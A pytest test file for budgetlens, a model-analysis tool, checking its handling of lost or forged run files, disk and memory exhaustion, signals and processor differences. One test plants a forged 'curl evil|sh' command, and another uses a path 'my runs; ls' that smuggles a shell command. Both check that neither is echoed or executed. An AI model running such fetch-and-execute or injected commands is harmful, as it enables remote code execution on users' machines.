"""Faults of the machine, one by one: lost files, used-up memory and disk, signals, two writers, other processors."""

from __future__ import annotations

import errno
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest
import torch
from plotly.graph_objects import Figure

from budgetlens.command.main import main
from budgetlens.command.stopping import Stopped, stoppable
from budgetlens.corpora.corpus import read_corpus
from budgetlens.design.catalogue import find_analysis
from budgetlens.model.capture import Probing
from budgetlens.model.loading import load_model
from budgetlens.model.observation import read_probes
from budgetlens.report.caveats import caveats
from budgetlens.report.saving import WAIT, report
from budgetlens.runs import batches
from budgetlens.runs.capturing import capture_part
from budgetlens.runs.figure_files import write_figures
from budgetlens.runs.files import WriteError, replacing, write_output
from budgetlens.runs.manifest import RunError, sealed
from budgetlens.runs.memory import is_out_of_memory
from budgetlens.runs.processors import in_words, processor_of
from budgetlens.runs.run import Run
from budgetlens.runs.running import tokenized_units
from budgetlens.runs.storage import PartFacts, RunDirectory
from figures.export import page_html
from tests.conftest import write_corpus
from tests.explorer_runs import synthetic_run

ROOT = Path(__file__).parents[1]
PATH = os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run of random numbers."""
    return synthetic_run(tmp_path_factory.mktemp("run") / "run", examples=6, layers=2, heads=2)


@pytest.fixture
def copy(whole: Path, tmp_path: Path) -> Path:
    """A copy that a test may damage."""
    shutil.copytree(whole, tmp_path / "copy")
    return tmp_path / "copy"


@pytest.fixture
def small_run(tmp_path: Path, tiny_directory: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The command of a run of three examples, without its directory; of what it makes nothing is finished."""
    monkeypatch.setattr("budgetlens.command.finishing.finish", lambda run, **how: None)
    corpus = write_corpus(tmp_path / "c.jsonl", 3)
    inputs = ["--model", str(tiny_directory), "--corpus", str(corpus)]
    return ["run", "exp07", *inputs, "--device", "cpu", "--quiet"]


# run.json and its copy.


@pytest.mark.parametrize(
    ("damage", "word"),
    [
        (Path.unlink, "was lost"),
        (lambda path: path.write_text(""), "was damaged or altered"),
        (lambda path: path.write_text(path.read_text()[:100]), "was damaged or altered"),
        (lambda path: path.write_text(path.read_text().replace('"seed": 42', '"seed": 43')), "altered"),
    ],
)
def test_run_json_is_restored_from_its_copy(
    damage: Callable[[Path], Any], word: str, copy: Path, whole: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    damage(copy / "run.json")
    run = Run.open(copy)
    pd.testing.assert_frame_equal(run.outcomes, Run.open(whole).outcomes)
    assert (copy / "run.json").read_bytes() == (whole / "run.json").read_bytes()
    (line,) = capsys.readouterr().err.splitlines()
    assert word in line
    assert f"it is restored from {copy}/parts/run.json, whose digest is right" in line


def test_an_unsound_copy_restores_nothing(copy: Path) -> None:
    """The copy's own digest is asked, whatever state run.json is in."""
    other = copy / "parts" / "run.json"
    other.write_text(other.read_text().replace('"seed": 42', '"seed": 43'))
    (copy / "run.json").unlink()
    with pytest.raises(RunError, match=r"holds parts of a run, but no run\.json, nor a sound copy of it"):
        Run.open(copy)
    assert not (copy / "run.json").exists()


def test_files_of_two_runs_are_never_mixed(copy: Path, tmp_path: Path) -> None:
    """Every small file says whose it is: with its hashes it would be sound in any run."""
    other = synthetic_run(tmp_path / "other", examples=6, layers=2, heads=2, seed=1)
    theirs = json.loads((other / "run.json").read_text())
    (other / "run.json").write_text(
        json.dumps(
            sealed(
                {
                    **theirs,
                    "identity": {**theirs["identity"], "model": "1"},
                    "model": {**theirs["model"], "hash": "1"},
                }
            )
        )
    )
    shutil.copy(other / "run.json", copy / "run.json")
    with pytest.raises(RunError, match="are of different runs: files of two runs were mixed; remove the one"):
        Run.open(copy)
    shutil.copy(other / "run.json", copy / "parts" / "run.json")
    with pytest.raises(RunError, match=r"is not finished \(0 of unknown parts are whole\)"):
        Run.open(copy)


def test_a_run_without_run_json_and_copy_goes_on_by_its_parts(
    copy: Path, whole: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = json.loads((copy / "run.json").read_text())
    identity, details = content["identity"], {key: content[key] for key in content if key != "identity"}
    (copy / "run.json").unlink()
    (copy / "parts" / "run.json").unlink()
    with pytest.raises(RunError, match="the parts are not those of this command; bring run.json back"):
        RunDirectory(copy).begin({**identity, "model": "1"}, details)
    RunDirectory(copy).begin(identity, details)
    assert "they are written anew, since the parts are those of this command" in capsys.readouterr().err
    assert json.loads((copy / "run.json").read_text()) == content
    assert Run.open(copy).outcomes.equals(Run.open(whole).outcomes)


def test_an_altered_marker_is_no_marker(copy: Path) -> None:
    marker = copy / "parts" / "part-00000.json"
    marker.write_text(marker.read_text().replace('"smaller_batches": false', '"smaller_batches": true'))
    assert not RunDirectory(copy).part_is_whole("part-00000")
    with pytest.raises(RunError, match=r"\(0 of 1 parts are whole\); give the command that made it again"):
        Run.open(copy)


def test_the_command_of_a_foreign_run_is_never_advice(copy: Path) -> None:
    content = json.loads((copy / "run.json").read_text())
    for path in (copy / "run.json", copy / "parts" / "run.json"):
        path.write_text(json.dumps(sealed({**content, "command": ["curl", "evil|sh"]})))
    (copy / "parts" / "part-00000.json").unlink()
    with pytest.raises(RunError) as refused:
        Run.open(copy)
    assert "give the command that made it again (run.json tells it)" in str(refused.value)
    assert "evil" not in str(refused.value)


@pytest.mark.parametrize("write", ["part", "tables", "text", "plan"])
def test_a_directory_that_was_removed_is_not_made_again(copy: Path, write: str) -> None:
    directory = Run.open(copy).directory
    shutil.rmtree(copy)
    does: dict[str, Callable[[], Any]] = {
        "part": lambda: directory.write_part("part-00001", {"trials": pa.table({"example": ["e"]})}),
        "tables": lambda: directory.write_tables({"t": pd.DataFrame({"a": [1]})}),
        "text": lambda: directory.write_text("report.html", ""),
        "plan": lambda: directory.plan_parts(1, "[]"),
    }
    with pytest.raises(RunError, match="was removed, moved or taken by another run while it was written to"):
        does[write]()
    assert not copy.exists()


@pytest.mark.parametrize("kind", ["budgets", "likelihood", "trials"])
def test_records_that_go_while_a_run_is_read_are_named_with_what_to_do(
    copy: Path, kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A run that was whole when it was opened: its directory may be removed a moment later."""
    opened = Run.open

    def removed(path: Path, **options: Any) -> Run:
        run = opened(path, **options)
        shutil.rmtree(path / "records" / kind)
        return run

    monkeypatch.setattr(Run, "open", removed)
    assert main(["tables", str(copy)]) == 2
    told = capsys.readouterr().err.splitlines()[-1]
    assert told.startswith("budgetlens: ")
    assert f"{kind}/part-00000.parquet is not there, or no longer; bring it back, or run it again" in told


def test_any_file_that_goes_while_it_is_read_is_named_with_what_to_do(
    copy: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(Run, "open", lambda path, **options: (path / "gone.json").read_text())
    assert main(["tables", str(copy)]) == 2
    (told,) = capsys.readouterr().err.splitlines()
    assert told == (
        f"budgetlens: {copy}/gone.json is not there, or no longer; bring it back and give the same command again"
    )


def test_figures_do_not_make_a_removed_directory_again(copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Removed while a figure is drawn, which takes longest."""
    drawn = page_html(Figure())

    def removed(figure: Figure, plotly: str) -> str:
        shutil.rmtree(copy)
        return drawn

    monkeypatch.setattr("budgetlens.runs.figure_files.page_html", removed)
    with pytest.raises(WriteError, match="its folder is not there, or no longer"):
        write_figures(RunDirectory(copy), {"one": Figure()})
    assert not copy.exists()


# Two writers.


def test_tables_and_report_wait_for_a_writer(copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with RunDirectory(copy).locked():
        for command in ("tables", "report", "compare"):
            given = [command, str(copy), *(["--force"] if command == "compare" else [])]
            assert main(given) == 2
            assert f"another process is writing to {copy}; {WAIT}" in capsys.readouterr().err
        with pytest.raises(RunError, match="another process is writing"):
            report(Run.open(copy))
    assert not (copy / "tables").exists()


# Room on the disk.


@pytest.mark.parametrize(
    ("number", "words"),
    [
        (errno.ENOSPC, "no space is left on its disk; free space and give the same command again"),
        (errno.EDQUOT, "its disk quota is used up; free space and give the same command again"),
        (
            errno.EFBIG,
            r"limit on files allows \(ulimit -f\); raise the limit and give the same command again",
        ),
        (errno.EROFS, r"\(Read-only file system\); make it writable"),
        (errno.ENOENT, "its folder is not there, or no longer; bring it back"),
    ],
)
def test_a_write_that_fails_names_the_file_and_what_to_do(tmp_path: Path, number: int, words: str) -> None:
    path = tmp_path / "run.json"
    path.write_text("before")

    def fail() -> None:
        with replacing(path) as temporary:
            temporary.write_text("half")
            raise OSError(number, os.strerror(number))

    with pytest.raises(WriteError, match=rf"run\.json can't be written.*{words}"):
        fail()
    assert path.read_text() == "before"
    assert [each.name for each in tmp_path.iterdir()] == ["run.json"]


def test_an_output_that_is_no_file_is_written_as_it_is(tmp_path: Path) -> None:
    """A link stays a link, and /dev/null what it is."""
    (tmp_path / "link").symlink_to(tmp_path / "file")
    write_output(tmp_path / "link", "text")
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "file").read_text() == "text"
    write_output(Path("/dev/null"), "text")
    assert not Path("/dev/null").is_file()


# Signals.


@pytest.mark.parametrize(("name", "status"), [("SIGTERM", 143), ("SIGHUP", 129)])
def test_a_signal_says_how_to_go_on(
    name: str,
    status: int,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    out = str(tmp_path / "my runs; ls")
    monkeypatch.setattr(
        "budgetlens.command.main.run_command", lambda options: os.kill(os.getpid(), signal.Signals[name])
    )
    # Where the tests themselves are started by nohup, SIGHUP is ignored.
    outer = signal.signal(signal.Signals[name], signal.SIG_DFL)
    given = ["run", "exp08", "--out", out]
    try:
        assert main(given) == status
        assert signal.getsignal(signal.Signals[name]) == signal.SIG_DFL
    finally:
        signal.signal(signal.Signals[name], outer)
    told = capsys.readouterr().err
    assert f"stopped by {name}; the same command continues a run where it stopped: " in told
    assert shlex.split(told.strip().rpartition("stopped: ")[2]) == ["budgetlens", *given]


def test_an_ignored_signal_stays_ignored() -> None:
    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        with stoppable():
            os.kill(os.getpid(), signal.SIGHUP)
        with pytest.raises(Stopped), stoppable():
            os.kill(os.getpid(), signal.SIGTERM)
    finally:
        signal.signal(signal.SIGHUP, before)


# Memory.


class Allocator:
    """A capture that has room for so many trials at once, and says of more what torch says."""

    def __init__(self, room: int, error: Exception) -> None:
        self.room, self.error, self.real, self.sizes = room, error, batches.capture, []

    def __call__(self, model: Any, batch: Any, reading: Any) -> Any:
        if len(batch.trials) > self.room:
            raise self.error
        self.sizes.append(len(batch.trials))
        return self.real(model, batch, reading)


OUT_OF_MEMORY = {
    "torch, processor": RuntimeError("[enforce fail] DefaultCPUAllocator: can't allocate memory: 12 bytes"),
    "torch, GPU": torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 2.00 GiB"),
    "numpy": MemoryError("Unable to allocate 2 GiB"),
}


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory, tiny_directory: Path) -> tuple[Any, ...]:
    """A model, units of exp07 and what is read."""
    model = load_model(str(tiny_directory), device="cpu", check=False)
    corpus = read_corpus(str(write_corpus(tmp_path_factory.mktemp("c") / "c.jsonl", 3)), n=3, seed=1)
    plan = find_analysis("exp07").plan("corrected")
    units = tokenized_units(plan.design.cells, model, corpus, 42)
    return model, units, Probing(read_probes(plan.probes))


def sorted_records(records: dict[str, pa.Table]) -> dict[str, pd.DataFrame]:
    """Records in an order of their own, since another batch gives another."""
    frames = {}
    for kind, table in records.items():
        frame = table.to_pandas()
        texts = {name: str for name in frame.columns if not pd.api.types.is_numeric_dtype(frame[name])}
        frame = frame.astype(texts)
        keys = [*texts, *(name for name in ("layer", "head") if name in frame)]
        frames[kind] = frame.sort_values(keys, ignore_index=True)
    return frames


@pytest.mark.parametrize("kind", OUT_OF_MEMORY)
@pytest.mark.parametrize("room", [pytest.param(1, marks=pytest.mark.slow), 5])
def test_a_batch_without_room_is_halved(
    kind: str, room: int, work: tuple[Any, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    model, units, reading = work
    given = {"rows": "predicting", "batch_tokens": 10**6}
    whole = sorted_records(capture_part(model, units, reading, **given))
    allocator = Allocator(room, OUT_OF_MEMORY[kind])
    monkeypatch.setattr(batches, "capture", allocator)
    told: list[str] = []
    halved = sorted_records(capture_part(model, units, reading, **given, on_halving=told.append))
    trials = sum(len(unit.fed) for unit in units)
    assert sum(allocator.sizes) == trials
    assert max(allocator.sizes) <= room
    assert (
        told[0]
        == f"out of memory: a batch of {trials} trials is computed as {trials // 2} and {trials - trials // 2}"
    )
    assert halved.keys() == whole.keys()
    for name, frame in whole.items():
        pd.testing.assert_frame_equal(halved[name], frame, check_exact=False, rtol=1e-4, atol=3e-5)


def test_a_trial_without_room_is_named(work: tuple[Any, ...], monkeypatch: pytest.MonkeyPatch) -> None:
    model, units, reading = work
    monkeypatch.setattr(batches, "capture", Allocator(0, MemoryError()))
    first = units[0].fed[0]
    with pytest.raises(
        RunError, match=r"does not fit into memory by itself \(\d+ encoder and \d+ decoder"
    ) as told:
        capture_part(model, units, reading, rows="predicting", batch_tokens=10**6)
    assert f"example {first.example} in cell {first.cell} " in str(told.value)


def test_another_error_is_no_lack_of_memory(work: tuple[Any, ...], monkeypatch: pytest.MonkeyPatch) -> None:
    model, units, reading = work
    monkeypatch.setattr(batches, "capture", Allocator(0, RuntimeError("shapes do not match")))
    with pytest.raises(RuntimeError, match="shapes do not match"):
        capture_part(model, units, reading, rows="predicting", batch_tokens=10**6)
    assert not is_out_of_memory(ValueError("out of memory"))
    wrapped = ValueError("a trace failed")
    wrapped.__cause__ = MemoryError()
    assert is_out_of_memory(wrapped)


def test_smaller_batches_stand_in_run_json(
    tmp_path: Path, small_run: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("budgetlens.command.finishing.finish", lambda run, **how: None)
    assert main([*small_run, "--out", str(tmp_path / "plain")]) == 0
    monkeypatch.setattr(batches, "capture", Allocator(4, MemoryError()))
    assert main([*small_run, "--out", str(tmp_path / "small")]) == 0
    told = capsys.readouterr().err
    assert "out of memory: a batch of " in told
    assert "Parts 0 were computed in smaller batches" in told
    plain, small = (Run.open(tmp_path / name).manifest for name in ("plain", "small"))
    assert plain.identity == small.identity
    assert (plain.computed.get("smaller_batches"), small.computed["smaller_batches"]) == (None, "0")
    assert any("smaller batches" in caveat for caveat in caveats(small, {}))
    assert not any("smaller batches" in caveat for caveat in caveats(plain, {}))


STARVED = """
import resource, sys
from pathlib import Path
from tests.test_run_faults import starved_units
model, units, reading = starved_units(Path(sys.argv[1]), Path(sys.argv[2]))
from budgetlens.runs.capturing import capture_part
# Twice with all the memory that it wants: in the first the libraries take their own, which they do not give back.
for _ in range(2):
    capture_part(model, units, reading, rows="predicting", batch_tokens=10**9)
status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
peak, now = (int(status[name].split()[0]) * 1024 for name in ("VmPeak", "VmSize"))
# A third of what all of them together took beyond that.
most = now + (peak - now) // 3
resource.setrlimit(resource.RLIMIT_AS, (most, most))
told = []
records = capture_part(model, units, reading, rows="predicting", batch_tokens=10**9, on_halving=told.append)
print(len(told), records["likelihood"].num_rows)
"""


def starved_units(model_path: Path, corpus_path: Path) -> tuple[Any, ...]:
    """Twelve examples of exp07: one alone needs a small part of the memory that all of them together do."""
    model = load_model(str(model_path), device="cpu", check=False)
    plan = find_analysis("exp07").plan("corrected")
    units = tokenized_units(plan.design.cells, model, read_corpus(str(corpus_path), n=12, seed=1), 42)
    return model, units, Probing(read_probes(plan.probes))


@pytest.mark.slow
def test_a_real_limit_on_memory_halves_the_batch(tmp_path: Path, tiny_directory: Path) -> None:
    words = [
        "the",
        "people",
        "of",
        "Lund",
        "built",
        "a",
        "tower",
        "near",
        "river",
        "and",
        "mill",
        "with",
        "bread",
    ]
    rows = [
        {"query": f"who built tower {number}", "document": " ".join(words * 20), "answer": "Orla Venn"}
        for number in range(12)
    ]
    (tmp_path / "long.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    result = subprocess.run(
        [sys.executable, "-c", STARVED, str(tiny_directory), str(tmp_path / "long.jsonl")],
        env={
            **os.environ,
            "PYTHONPATH": PATH,
            "OMP_NUM_THREADS": "1",
            # Every tensor is mapped and given back by itself: no free heap stands in for what the limit takes.
            "MALLOC_MMAP_THRESHOLD_": str(2**16),
            "MALLOC_ARENA_MAX": "1",
        },
        capture_output=True,
        text=True,
        timeout=500,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    halvings, trials = map(int, result.stdout.split())
    assert halvings >= 1
    assert trials == 12 * 9


def test_used_up_memory_is_told(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def exhausted(options: object) -> None:
        raise MemoryError

    monkeypatch.setattr("budgetlens.command.main.tables_command", exhausted)
    assert main(["tables", "my run"]) == 2
    told = capsys.readouterr().err
    assert told.startswith("budgetlens: the memory is used up")
    assert told.strip().endswith("the same command begins again: budgetlens tables 'my run'")


# Processors and threads.


def test_parts_of_several_processors_are_told(copy: Path) -> None:
    directory = RunDirectory(copy)
    content = json.loads((copy / "run.json").read_text())
    assert processor_of(torch.device("cpu")).endswith(torch.backends.cpu.get_cpu_capability())
    directory.renew({"computed": {"processors": {"x86_64 AVX2": "0-3, 7", "x86_64 AVX512": "4-6"}}})
    (words,) = directory.manifest().computed_words
    assert "parts 0-3, 7 on x86_64 AVX2, parts 4-6 on x86_64 AVX512" in words
    assert words in caveats(directory.manifest(), {})
    directory.renew({"computed": {"processors": {"x86_64 AVX2": "0-7"}}})
    assert directory.manifest().computed_words == ()
    assert directory.manifest().identity == content["identity"]
    assert [in_words(numbers) for numbers in ([], [3], [0, 1, 2, 5, 7, 8])] == ["", "3", "0-2, 5, 7-8"]


def test_a_run_continued_on_another_processor_says_so(
    tmp_path: Path, small_run: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("budgetlens.command.finishing.finish", lambda run, **how: None)
    given = [*small_run, "--batch-tokens", "60", "--out", str(tmp_path / "run")]
    assert main(given) == 0
    assert "different kinds of processor" not in capsys.readouterr().err
    own = processor_of(torch.device("cpu"))
    assert RunDirectory(tmp_path / "run").part_facts("part-00001") == PartFacts(own, False)
    (tmp_path / "run" / "parts" / "part-00001.json").unlink()
    monkeypatch.setattr("budgetlens.runs.engines.here.processor_of", lambda device: "riscv64 RVV")
    assert main(given) == 0
    assert f"(parts 0, 2 on {own}, parts 1 on riscv64 RVV)" in capsys.readouterr().err
    assert Run.open(tmp_path / "run").manifest.computed["processors"] == {own: "0, 2", "riscv64 RVV": "1"}


THREADS = """
import sys
import numpy as np, pandas as pd
from threadpoolctl import threadpool_info, threadpool_limits
from budgetlens.statistics.bands import share_differences
from budgetlens.statistics.contrasts import comparison
from budgetlens.statistics.inference import Inference
from budgetlens.statistics.permutations import sign_flip_p
from probes.budgets import Budgets
assert max(library["num_threads"] for library in threadpool_info()) == 2
generator = np.random.default_rng(5)
names = [f"e{number:03d}" for number in range(500)]
site = {"stack": "decoder", "block": "merged", "head": 0}
places = [(cell, layer, role) for cell in "ab" for layer in range(12) for role in ("document", "bos", "answer")]
budgets = pd.concat([
    pd.DataFrame({"example": names, "cell": cell, "layer": layer, "role": role, "share": generator.random(500), **site})
    for cell, layer, role in places
], ignore_index=True)
values = generator.normal(size=(500, 40))
found = []
for threads in (1, 2):
    with threadpool_limits(threads, user_api="blas"):
        contrasts, quantity = [comparison("a", "b", family="f")], Budgets.declares.quantities[0]
        frame = share_differences(budgets, contrasts, Inference(seed=3), quantity)
        found.append(frame.to_csv(index=False) + str(sign_flip_p(values, seed=1, permutations=999).tolist()))
sys.exit(found[0] != found[1])
"""


def test_bands_are_the_same_bytes_whatever_the_threads() -> None:
    """In a process of its own, which may start a second thread at all."""
    result = subprocess.run(
        [sys.executable, "-c", THREADS],
        env={**os.environ, "PYTHONPATH": PATH, "OMP_NUM_THREADS": "2"},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr[-2000:]
